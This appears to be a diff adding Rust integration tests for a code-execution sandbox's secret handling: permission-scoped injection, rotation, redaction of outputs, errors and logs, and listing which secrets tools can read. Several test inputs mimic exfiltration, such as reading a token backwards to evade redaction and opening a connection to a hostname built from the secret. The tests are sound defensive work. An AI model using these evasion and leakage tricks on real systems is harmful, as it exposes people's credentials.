@@ -1,0 +1,112 @@
+//! Secrets that are variables: for code that runs as somebody who may use them, by an integration that
+//! allows them, and taken out of what comes back.
+
+use crate::people::{Person, change, grant, id, on, ungrant, workspace};
+use crate::world::{Api, World};
+use serde_json::{Value, json};
+
+const CANARY: &str = "sk-canary-4711-0815-abcdef";
+/// Backwards, as nobody takes it out of the answer then.
+const READ: &str = "import os; os.environ.get('TOKEN', 'none')[::-1]";
+
+async fn integration(owner: &Api, name: &str, secrets: Value) -> Value {
+    let new = json!({"name": name, "allowed_network_rules": [], "allowed_secrets": secrets, "enabled": true});
+    let (status, made) = owner.call("POST", "/v1/integrations", Some(new)).await;
+    assert_eq!(status, 201, "{made}");
+    made
+}
+
+async fn secret(who: &Api, value: &str, scope: &str) -> Value {
+    who.post("/v1/secrets", json!({"name": "TOKEN", "value": value, "scope": scope})).await
+}
+
+fn backwards(value: &Value) -> String {
+    value.as_str().unwrap_or_else(|| panic!("{value}")).chars().rev().collect()
+}
+
+async fn seen(who: &Api, integrations: &[&str]) -> String {
+    let record = who.post("/v1/execute", json!({"code": READ, "integrations": integrations})).await;
+    backwards(&record["value"])
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_variable_is_for_code_of_those_who_may_use_it_by_an_integration_that_allows_it() {
+    let world = World::start().await;
+    let (owner, ann) = (&world.owner, Person::new(&world, "ann").await);
+    grant(owner, &ann.id, "USAGE", &workspace(owner).await).await;
+    let token = secret(owner, CANARY, "workspace").await;
+    for (name, secrets) in
+        [("all", json!("all")), ("some", json!(["TOKEN"])), ("other", json!(["X"]))]
+    {
+        let made = integration(owner, name, secrets).await;
+        grant(owner, &ann.id, "USAGE", &on("integration", &made)).await;
+    }
+    assert_eq!(seen(owner, &["all"]).await, CANARY);
+    assert_eq!(seen(owner, &["other", "some"]).await, CANARY);
+    assert_eq!(seen(owner, &["other"]).await, "none");
+    assert_eq!(seen(owner, &[]).await, "none");
+    assert_eq!(seen(&ann, &["all"]).await, "none", "she may not use it");
+    let usage = grant(owner, &ann.id, "USAGE", &on("secret", &token)).await;
+    assert_eq!(seen(&ann, &["all"]).await, CANARY);
+    // Her own goes before it, and is nobody else's.
+    secret(&ann, "of-ann-alone", "caller").await;
+    assert_eq!(seen(&ann, &["all"]).await, "of-ann-alone");
+    assert_eq!(seen(owner, &["all"]).await, CANARY);
+    ungrant(owner, &usage).await;
+    let replaced = json!({"value": "another-value"});
+    owner.call("PUT", &format!("/v1/secrets/{}/value", id(&token)), Some(replaced)).await;
+    assert_eq!(seen(owner, &["all"]).await, "another-value");
+    owner.post("/v1/secrets/rotate", json!({})).await;
+    assert_eq!(seen(owner, &["all"]).await, "another-value", "a new key changes nothing");
+    assert_eq!(seen(&ann, &["all"]).await, "of-ann-alone");
+    let moved = json!({"inject": {"env": "OTHER"}, "value": "another-value"});
+    change(owner, &format!("/v1/secrets/{}", id(&token)), moved).await;
+    assert_eq!(seen(owner, &["all"]).await, "none");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn t43_an_exposed_secret_does_not_come_back_from_a_session_nor_from_a_fresh_sandbox() {
+    let world = World::start().await;
+    let owner = &world.owner;
+    secret(owner, CANARY, "workspace").await;
+    integration(owner, "all", json!("all")).await;
+    let tells = "import os\nvalue = os.environ['TOKEN']\nprint('it is', value)\n[value, value.encode().hex()]";
+    let clean = json!(["[redacted:TOKEN]", "[redacted:TOKEN]"]);
+    let fresh = owner.post("/v1/execute", json!({"code": tells, "integrations": ["all"]})).await;
+    assert_eq!(fresh["value"], clean, "{fresh}");
+    let session = owner.post("/v1/sessions", json!({"integrations": ["all"]})).await;
+    let session = session["sandbox_id"].as_str().unwrap().to_owned();
+    assert_eq!(owner.run(&session, tells).await["value"], clean);
+    let raised = owner.run(&session, "raise ValueError(value)").await;
+    assert_eq!(raised["error"]["message"], "[redacted:TOKEN]");
+    let shown = owner.run(&session, "{'of a cell': value}").await;
+    assert!(!format!("{fresh}{raised}{shown}{}", world.log()).contains(CANARY));
+    // What code tries to reach is on record as well.
+    let reaches = "import socket\ntry:\n    socket.create_connection((value + '.example.com', 443))\nexcept OSError as error:\n    print(error)";
+    let reached = owner.run(&session, reaches).await;
+    let log = owner.get("/v1/network/log").await;
+    assert!(!format!("{reached}{log}").contains(CANARY), "{reached} {log}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_explanation_names_what_code_could_read() {
+    let world = World::start().await;
+    let owner = &world.owner;
+    secret(owner, CANARY, "workspace").await;
+    let openai = json!({"name": "openai", "value": CANARY, "inject": {"client": "openai"}});
+    owner.post("/v1/secrets", openai).await;
+    integration(owner, "all", json!("all")).await;
+    let specification = "tools:\n  - tool_spec: {type: code_execution, name: code_execution}\n\
+        tool_resources:\n  code_execution:\n    external_access_integrations: [all]\n";
+    let agent = json!({"name": "a", "specification": specification});
+    let agent = id(&owner.post("/v1/agents", agent).await);
+    let told = owner.get(&format!("/v1/explain?agent={agent}")).await;
+    assert_eq!(told["secrets"], json!(["TOKEN"]), "{told}");
+    let variables = json!([{"name": "OWN", "value": "of-the-tool"}]);
+    let tool = json!({"name": "t", "tool_type": "code_runner", "configuration":
+        {"code": "def run(input):\n    return 1\n", "env_variables": variables}});
+    let tool = id(&owner.post("/v1/tools", tool).await);
+    let told = owner.get(&format!("/v1/explain?tool={tool}")).await;
+    assert_eq!(told["secrets"], json!(["OWN"]), "{told}");
+    assert!(!told.to_string().contains(CANARY));
+}
